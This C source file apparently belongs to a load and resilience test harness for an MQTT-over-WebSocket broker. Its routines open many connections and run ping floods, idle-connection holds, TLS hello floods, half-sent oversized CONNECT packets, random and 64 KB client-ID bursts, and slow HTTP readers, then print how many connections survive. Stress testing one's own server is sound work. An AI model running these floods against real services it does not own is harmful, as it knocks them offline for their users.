#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void wait_until(double end)
{
    while (now() < end)
        usleep(20000);
}

// Connections in their order; who the balancer has closed is not there any more when the attack is over.
static int still_open(const int *fds, int count)
{
    int open = 0;
    char byte;
    for (int i = 0; i < count; i++) {
        if (fds[i] < 0)
            continue;
        ssize_t n = recv(fds[i], &byte, 1, MSG_DONTWAIT | MSG_PEEK);
        open += n > 0 || (n < 0 && errno == EAGAIN);
    }
    return open;
}

int run_pings(void)
{
    enum { BLOCK = 2000 };
    static uint8_t pings[BLOCK * 6], back[65536];
    int *fds = calloc((size_t)opt.clients, sizeof *fds);
    size_t length = empty_pings(pings, BLOCK), *at = calloc((size_t)opt.clients, sizeof *at);
    long long sent = 0;
    for (int i = 0; i < opt.clients; i++) {
        uint8_t first[256], connect[200];
        char id[64];
        snprintf(id, sizeof id, "%s-%d", opt.prefix, i);
        size_t packet = connect_packet(connect, id, 0, false), said = opt.after ? packet : 1, header = frame_header(first, said);
        memcpy(first + header, connect, said);
        fds[i] = dial(opt.port, opt.from, true);
        if (fds[i] < 0 || !upgrade(fds[i]) || !send_all(fds[i], first, header + said))
            die("client %d is not let in", i);
        if (opt.after && recv(fds[i], back, 7, 0) <= 0)
            die("client %d has no CONNACK", i);
    }
    for (double end = now() + opt.seconds; now() < end;) {
        for (int i = 0; i < opt.clients; i++) {
            if (fds[i] < 0)
                continue;
            ssize_t n = send(fds[i], pings + at[i], length - at[i], MSG_DONTWAIT | MSG_NOSIGNAL);
            if (n > 0) {
                at[i] = (at[i] + (size_t)n) % length;
                sent += n;
            } else if (errno != EAGAIN) {
                close(fds[i]);
                fds[i] = -1;
                continue;
            }
            recv(fds[i], back, sizeof back, MSG_DONTWAIT);
        }
        usleep(200);
    }
    printf("pings=%lld open=%d\n", sent / 6, still_open(fds, opt.clients));
    return 0;
}

int run_glued(void)
{
    static uint8_t bytes[65536], back[65536];
    struct pollfd *fds = calloc((size_t)opt.clients, sizeof *fds);
    int answered = 0;
    for (int i = 0; i < opt.clients; i++) {
        uint8_t connect[200];
        char id[64];
        snprintf(id, sizeof id, "%s-%d", opt.prefix, i);
        fds[i] = (struct pollfd){.fd = dial(opt.port, opt.from, true), .events = POLLIN};
        if (fds[i].fd < 0 || !upgrade(fds[i].fd))
            die("client %d is not let in", i);
        // Around every size of buffer that a reader may have.
        size_t n = empty_pings(bytes, 1250 + i * 13 % 1600), packet = connect_packet(connect, id, 0, false);
        n += frame_header(bytes + n, packet);
        memcpy(bytes + n, connect, packet);
        if (!send_all(fds[i].fd, bytes, n + packet))
            die("client %d cannot send", i);
    }
    for (double end = now() + 4; now() < end && answered < opt.clients;) {
        if (poll(fds, (nfds_t)opt.clients, 50) <= 0)
            continue;
        for (int i = 0; i < opt.clients; i++) {
            if (!fds[i].revents)
                continue;
            // Pongs come first; the CONNACK is the only binary frame. A read that cuts it in two is told by its length.
            ssize_t got = recv(fds[i].fd, back, sizeof back, MSG_PEEK | MSG_DONTWAIT);
            bool found = got > 0 && memmem(back, (size_t)got, "\x82\x05\x20", 3);
            if (found || (got <= 0 && errno != EAGAIN)) {
                answered += found;
                fds[i].fd = -1;
            } else if (got > 8) {
                recv(fds[i].fd, back, (size_t)got - 8, MSG_DONTWAIT);
            }
        }
    }
    printf("answered=%d of=%d\n", answered, opt.clients);
    return 0;
}

int run_silent(void)
{
    int *fds = calloc((size_t)opt.clients, sizeof *fds), failed = 0;
    double end = now() + opt.seconds;
    for (int i = 0; i < opt.clients && now() < end; i++)
        failed += (fds[i] = dial(opt.port, opt.from, true)) < 0;
    wait_until(end);
    printf("failed=%d open=%d\n", failed, still_open(fds, opt.clients));
    return 0;
}

int run_hellos(void)
{
    uint8_t hello[4096];
    size_t length = client_hello(hello, sizeof hello);
    int most = (int)(opt.rate * opt.seconds) + 1, *fds = calloc((size_t)most, sizeof *fds), opened = 0, said = 0;
    double start = now();
    while (now() < start + opt.seconds) {
        while (opened < most && opened < (now() - start) * opt.rate) {
            fds[opened] = dial(opt.port, opt.from, false);
            if (fds[opened] < 0)
                break;
            opened++;
        }
        // On the same machine a connection stands as soon as it was asked for.
        while (said < opened && send(fds[said], hello, length, MSG_DONTWAIT | MSG_NOSIGNAL) != -1)
            said++;
        if (said < opened && errno != EAGAIN && errno != ENOTCONN)
            said++;
        usleep(500);
    }
    printf("hellos=%d open=%d\n", said, still_open(fds, opened));
    return 0;
}

int run_connects(void)
{
    uint8_t *packet = malloc((size_t)opt.size + 1024);
    char id[64];
    snprintf(id, sizeof id, "%s-big", opt.prefix);
    size_t length = connect_packet(packet, id, (size_t)opt.size, false) - 1;
    struct pollfd *fds = calloc((size_t)opt.clients, sizeof *fds);
    size_t *at = calloc((size_t)opt.clients, sizeof *at);
    int closed = 0, refused = 0, failed = 0, left = opt.clients;
    for (int i = 0; i < opt.clients; i++) {
        fds[i] = (struct pollfd){.fd = dial(opt.port, opt.from, false), .events = POLLOUT | POLLIN};
        failed += fds[i].fd < 0;
        left -= fds[i].fd < 0;
    }
    for (double end = now() + opt.seconds; now() < end;) {
        if (poll(fds, (nfds_t)opt.clients, 50) <= 0)
            continue;
        for (int i = 0; i < opt.clients; i++) {
            if (fds[i].fd < 0 || !fds[i].revents)
                continue;
            uint8_t answer[16];
            ssize_t n = 0;
            if (fds[i].revents & (POLLIN | POLLERR | POLLHUP)) {
                n = recv(fds[i].fd, answer, sizeof answer, MSG_DONTWAIT);
                refused += n == 5 && answer[0] == 0x20 && answer[3] == 0x89;
                if (n >= 0 || errno != EAGAIN) {
                    closed++;
                    close(fds[i].fd);
                    fds[i].fd = -1;
                    continue;
                }
            }
            n = send(fds[i].fd, packet + at[i], length - at[i], MSG_DONTWAIT | MSG_NOSIGNAL);
            if (n > 0)
                at[i] += (size_t)n;
            if (at[i] == length)
                fds[i].events = POLLIN;
        }
    }
    printf("bytes=%zu closed=%d refused=%d failed=%d open=%d\n", length, closed, refused, failed, left - closed);
    return 0;
}

int run_ids(void)
{
    uint8_t packet[256], answer[8];
    char id[64];
    int done = 0, answered = 0;
    unsigned random = 12345;
    for (double start = now(); now() < start + opt.seconds; done++) {
        while (done > (now() - start) * opt.rate)
            usleep(500);
        random = random * 1664525 + 1013904223;
        snprintf(id, sizeof id, "%s-%08x-%d", opt.prefix, random, done);
        int fd = dial(opt.port, opt.from, true);
        if (fd < 0)
            continue;
        if (send_all(fd, packet, connect_packet(packet, id, 0, false)) && recv(fd, answer, 5, 0) == 5)
            answered++;
        close(fd);
    }
    printf("clients=%d answered=%d\n", done, answered);
    return 0;
}

int run_longs(void)
{
    uint8_t *packet = malloc(70000), answer[5];
    char *id = malloc(65536);
    int *fds = calloc((size_t)opt.clients, sizeof *fds), accepted = 0;
    memset(id, 'x', 65535);
    id[65535] = 0;
    for (int i = 0; i < opt.clients; i++) {
        char number[16];
        memcpy(id, number, (size_t)snprintf(number, sizeof number, "long-%06d", i));
        fds[i] = dial(opt.port, opt.from, true);
        if (fds[i] >= 0 && send_all(fds[i], packet, connect_packet(packet, id, 0, false)) && recv(fds[i], answer, 5, 0) == 5)
            accepted += answer[3] == 0;
    }
    printf("accepted=%d\n", accepted);
    wait_until(now() + opt.seconds);
    return 0;
}

int run_readers(void)
{
    static const char request[] = "GET /api/v1/sessions?limit=100 HTTP/1.1\r\nHost: a\r\n\r\n";
    int *fds = calloc((size_t)opt.clients, sizeof *fds);
    char byte[4096];
    for (int i = 0; i < opt.clients; i++) {
        fds[i] = dial(opt.port, opt.from, true);
        if (fds[i] >= 0)
            send_all(fds[i], request, sizeof request - 1);
    }
    for (double end = now() + opt.seconds; now() < end;) {
        for (int i = 0; i < opt.clients; i++)
            if (fds[i] >= 0)
                recv(fds[i], byte, sizeof byte, MSG_DONTWAIT);
        usleep(100000);
    }
    printf("readers=%d open=%d\n", opt.clients, still_open(fds, opt.clients));
    return 0;
}
